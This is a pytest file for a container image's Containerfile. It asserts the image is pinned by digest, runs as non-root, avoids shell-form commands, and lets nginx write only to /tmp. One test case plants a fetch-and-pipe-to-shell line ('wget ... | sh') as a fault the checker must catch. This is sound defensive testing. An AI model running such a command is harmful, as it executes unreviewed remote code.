"""The image of deploy/container: pinned, without rights, and what it starts serves a release and writes nowhere else."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import tempfile
import urllib.request
from pathlib import Path

import pytest
from nginx_server import find_nginx, free_port, wait_for

from cloud_ml_platforms.paths import ROOT
from cloud_ml_platforms.site.release import finish_release

TEXT = (ROOT / "deploy" / "container" / "Containerfile").read_text(encoding="utf-8")
NOBODY = 65534


def instructions(text):
    """Return the instructions of a Containerfile as (name, rest), continued lines joined."""
    joined = re.sub(r"\\\n\s*", " ", re.sub(r"^\s*#.*\n", "", text, flags=re.MULTILINE))
    return [tuple(line.split(None, 1)) for line in joined.splitlines() if line.strip()]


def faults(text):
    """Yield what an image of ours must not be: unpinned, privileged, blind to its own health, or made by a script."""
    arguments_by_name = {}
    for name, arguments in instructions(text):
        arguments_by_name.setdefault(name, []).append(arguments)
    for base in arguments_by_name["FROM"]:
        if not re.fullmatch(r"[\w./-]+:[\w.-]*\d[\w.-]*@sha256:[0-9a-f]{64}(?: AS \w+)?", base):
            yield f"FROM {base}: expected a version and a digest"
    if not re.fullmatch(r"[1-9]\d*:[1-9]\d*", arguments_by_name.get("USER", [""])[-1]):
        yield "USER: expected the numbers of an account that is not root"
    if not re.search(r'CMD \["', arguments_by_name.get("HEALTHCHECK", [""])[-1]):
        yield "HEALTHCHECK: expected a command, without a shell"
    if "RUN" in arguments_by_name or "ADD" in arguments_by_name:
        yield "RUN, ADD: nothing is fetched or executed while the image is made"
    if not arguments_by_name.get("ENTRYPOINT", [""])[-1].startswith('["'):
        yield "ENTRYPOINT: expected a list, without a shell"


def test_the_image_is_pinned_and_without_rights():
    assert not list(faults(TEXT))


@pytest.mark.parametrize(
    ("old", "new"),
    [
        (r"@sha256:\w+", ""),
        (r":1\.[\w.-]+@", "@"),
        (r"USER .*", ""),
        (r"USER .*", "USER 0:0"),
        (r"USER .*", "USER nginx"),
        (r"HEALTHCHECK .*", ""),
        (r"HEALTHCHECK .*", "HEALTHCHECK NONE"),
        (r"EXPOSE .*", "RUN wget -O - https://example.org/x.sh | sh"),
        (r"ENTRYPOINT .*", "ENTRYPOINT nginx"),
    ],
)
def test_a_fault_of_the_image_is_found(old, new):
    planted = re.sub(old, new, TEXT, count=1)
    assert planted != TEXT
    assert list(faults(planted))


def tree(folder):
    """Return everything below a folder with its time and size."""
    return {path: (path.lstat().st_mtime_ns, path.lstat().st_size) for path in folder.rglob("*")}


@pytest.fixture
def image():
    """What the image holds, as its COPY lines say, in a folder that only root may write to; with a tmp for everyone."""
    with tempfile.TemporaryDirectory(prefix="image-") as name:
        root = Path(name)
        root.chmod(0o755)
        release = root / "release"
        (release / "v").mkdir(parents=True)
        for page in ("index.html", "404.html", "v/a.js"):
            (release / page).write_text(f"<title>{page}</title>" * 100, encoding="utf-8")
        finish_release(release)
        copies = dict(arguments.split() for name, arguments in instructions(TEXT) if name == "COPY")
        assert copies == {"deploy/nginx/*.conf": "/etc/guide/", "release/": "/srv/www/current/"}
        conf = root / "etc" / "guide"
        conf.mkdir(parents=True)
        shutil.copytree(release, root / "srv" / "www" / "current")
        for path in (ROOT / "deploy" / "nginx").glob("*.conf"):
            shutil.copy(path, conf)
        (root / "tmp").mkdir()
        (root / "tmp").chmod(0o777)
        yield root


@pytest.mark.usefixtures("needs_nginx")
def test_what_the_image_starts_serves_without_rights_and_writes_to_tmp_only(image, tmp_path):
    """The image's own command and health check, with its folders in the place of the system's."""
    command = json.loads(dict(instructions(TEXT))["ENTRYPOINT"])
    assert command[:1] == ["nginx"]
    address = re.search(r'"(http://127\.0\.0\.1:8080/[^"]*)"', dict(instructions(TEXT))["HEALTHCHECK"])[1]
    port = free_port()
    conf = image / "etc" / "guide"
    site = (conf / "site.conf").read_text(encoding="utf-8")
    site = site.replace("listen 8080;", f"listen 127.0.0.1:{port};").replace("/srv/www", str(image / "srv" / "www"))
    (conf / "site.conf").write_text(site, encoding="utf-8")
    command = [find_nginx(), *(str(image) + part if part.startswith("/") else part for part in command[1:])]
    account = {"user": NOBODY, "group": NOBODY, "extra_groups": []} if os.geteuid() == 0 else {}
    before = tree(image)
    with (tmp_path / "said").open("wb") as log, subprocess.Popen(command, stderr=log, cwd="/", **account) as process:
        try:
            wait_for(port, process, tmp_path / "said")
            owner = Path(f"/proc/{process.pid}").stat().st_uid
            with urllib.request.urlopen(address.replace("8080", str(port))) as answer:
                assert answer.status == 200
                assert answer.headers["Content-Security-Policy"].startswith("default-src 'none'")
            after = tree(image)
        finally:
            process.terminate()
            process.wait(10)
    assert owner == account.get("user", os.geteuid())
    folders = {path.relative_to(image).parts[0] for path in after if after[path] != before.get(path)}
    assert folders == {"tmp"}
